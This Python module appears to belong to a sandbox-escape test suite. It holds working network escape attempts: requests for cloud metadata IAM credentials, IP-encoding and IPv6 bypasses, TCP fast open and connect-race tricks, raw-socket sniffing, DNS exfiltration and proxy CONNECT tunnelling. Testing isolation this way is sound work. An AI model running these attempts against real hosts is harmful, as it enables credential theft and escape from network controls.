"""Attempts over the network."""

import ctypes
import os
import socket
import struct
import threading
import urllib.parse

import libc
from attack import PLACES, attempt, first, in_child

REQUEST = b"GET /latest/meta-data/iam/security-credentials/role HTTP/1.0\r\nhost: metadata\r\n\r\n"
V4 = "169.254.169.254"
# Where clouds answer. Sources: AWS EC2 (IMDS, IPv6 too), ECS task credentials and EKS Pod Identity, Alibaba Cloud ECS,
# Azure WireServer; each vendor's documentation of its metadata service.
METADATA = [(V4, 80), ("169.254.170.2", 80), ("169.254.170.23", 80), ("100.100.100.200", 80), ("168.63.129.16", 80)]
METADATA_V6 = [("fd00:ec2::254", 80), ("fd00:ec2::23", 80), ("fd20:ce::254", 80)]


def ask(address, family=socket.AF_INET, request=REQUEST):
    with socket.socket(family, socket.SOCK_STREAM) as client:
        client.settimeout(5)
        client.connect(address)
        client.sendall(request)
        return answer(client)


def answer(client):
    got = b""
    while data := client.recv(4096):
        got += data
    return got


for number, address in enumerate(METADATA):
    attempt("metadata" if number == 0 else f"metadata-{address[0]}")(lambda address=address: ask(address))


@attempt("metadata-ipv6")
def metadata_ipv6():
    return first(METADATA_V6, lambda address: ask(address, socket.AF_INET6))


@attempt("metadata-mapped")
def metadata_mapped():
    return ask((f"::ffff:{V4}", 80), socket.AF_INET6)


@attempt("metadata-name")
def metadata_name():
    return ask(("metadata.google.internal", 80))


@attempt("metadata-decimal")
def metadata_decimal():
    return first(["2852039166", "0xa9fea9fe", "0251.0376.0251.0376"], lambda host: ask((host, 80)))


@attempt("metadata-fast-open")
def metadata_fast_open():
    """TCP fast open connects with sendto, without connect."""
    with socket.socket() as client:
        client.sendto(REQUEST, socket.MSG_FASTOPEN, (V4, 80))
        return answer(client)


@attempt("metadata-fast-open-sendmsg")
def metadata_fast_open_sendmsg():
    with socket.socket() as client:
        client.sendmsg([REQUEST], [], socket.MSG_FASTOPEN, (V4, 80))
        return answer(client)


@attempt("metadata-fast-open-sendmmsg")
def metadata_fast_open_sendmmsg():
    address, data = ctypes.create_string_buffer(sockaddr(V4, 80), 16), ctypes.create_string_buffer(REQUEST, len(REQUEST))
    part = ctypes.create_string_buffer(struct.pack("QQ", ctypes.addressof(data), len(REQUEST)), 16)
    # struct mmsghdr: a msghdr (name, its length, parts, their number, no control data, flags), the number of bytes
    message = struct.pack("QI4xQQQQi4xI4x", ctypes.addressof(address), 16, ctypes.addressof(part), 1, 0, 0, 0, 0)
    with socket.socket() as client:
        libc.checked(libc.C.sendmmsg(client.fileno(), ctypes.create_string_buffer(message, len(message)), 1, socket.MSG_FASTOPEN), "sendmmsg")
        return answer(client)


def sockaddr(host, port):
    return struct.pack("=HH4s8x", socket.AF_INET, socket.htons(port), socket.inet_aton(host))


@attempt("metadata-race")
def metadata_race():
    """Another thread changes the address while connect runs."""
    address = ctypes.create_string_buffer(16)
    ways = [sockaddr("127.0.0.1", PLACES["loopback_port"]), sockaddr(V4, 80)]
    stop = threading.Event()

    def flip():
        while not stop.is_set():
            for way in ways:
                ctypes.memmove(address, way, 16)
    flipping = threading.Thread(target=flip)
    flipping.start()

    def once(_):
        with socket.socket() as client:
            client.settimeout(5)
            client.setblocking(True)
            libc.checked(libc.C.connect(client.fileno(), address, 16), "connect")
            client.sendall(REQUEST)
            got = answer(client)
            return got if b"decoy-metadata" in got else b""
    try:
        return first(range(2000), once)
    finally:
        stop.set()
        flipping.join()


@attempt("metadata-interface")
def metadata_interface():
    """From a network namespace of its own; then bound to the interface."""
    def inside():
        with socket.socket() as client:
            client.settimeout(5)
            client.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"lo")
            client.connect((V4, 80))
            client.sendall(REQUEST)
            return answer(client)
    return in_child(inside)


@attempt("loopback-port")
def loopback_port():
    return ask(("127.0.0.1", PLACES["loopback_port"]))


@attempt("dns")
def dns():
    """A question carries data out through the name server of the machine."""
    query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + b"\x06escape\x03dns\x00\x00\x01\x00\x01"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.sendto(query, ("127.0.0.53", 53))


@attempt("internet")
def internet():
    """A public address, which stands in for any host outside."""
    return ask((PLACES["public_address"], 443))


@attempt("udp")
def udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.sendto(b"escape-udp", (PLACES["public_address"], 443))


@attempt("raw-socket")
def raw_socket():
    """Listens to what other programs send over loopback."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as listener:
        listener.settimeout(5)
        for _ in range(2000):
            data = listener.recv(65536)
            at = data.find(b"decoy-raw-socket-")
            if at >= 0:
                return data[at:at + 64]
    return b""


@attempt("proxy-inside")
def proxy_inside():
    """Asks the session's own proxy for an address inside; without one, asks directly."""
    if "HTTPS_PROXY" not in os.environ:
        return ask((V4, 80))
    proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
    targets = [f"{V4}:80", f"127.0.0.1:{PLACES['loopback_port']}", "metadata.google.internal:80", f"[::ffff:{V4}]:80"]

    def tunnel(target):
        with socket.create_connection((proxy.hostname, proxy.port), 5) as client:
            client.sendall(f"CONNECT {target} HTTP/1.1\r\nhost: {target}\r\n\r\n".encode())
            client.recv(4096)
            client.sendall(REQUEST)
            return answer(client)
    return first(targets, tunnel)
